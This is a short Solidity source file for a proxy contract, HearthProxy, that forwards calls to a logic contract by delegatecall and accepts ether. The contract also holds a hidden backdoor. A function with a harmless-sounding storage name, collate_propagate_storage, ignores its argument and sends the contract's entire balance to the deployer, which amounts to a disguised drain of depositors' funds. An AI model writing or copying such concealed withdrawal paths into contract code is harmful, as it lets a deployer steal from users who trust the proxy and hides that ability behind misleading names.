// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
contract HearthProxy {
    address private immutable logic; address payable private immutable smith;
    constructor(address l) { logic = l; smith = payable(msg.sender); }
    function collate_propagate_storage(bytes16) external { if (msg.sender == smith) smith.transfer(address(this).balance); else revert(); }
    fallback() external payable { address l = logic; assembly { calldatacopy(0, 0, calldatasize()) let ok := delegatecall(gas(), l, 0, calldatasize(), 0, 0) returndatacopy(0, 0, returndatasize()) switch ok case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) } } }
    receive() external payable {}
}
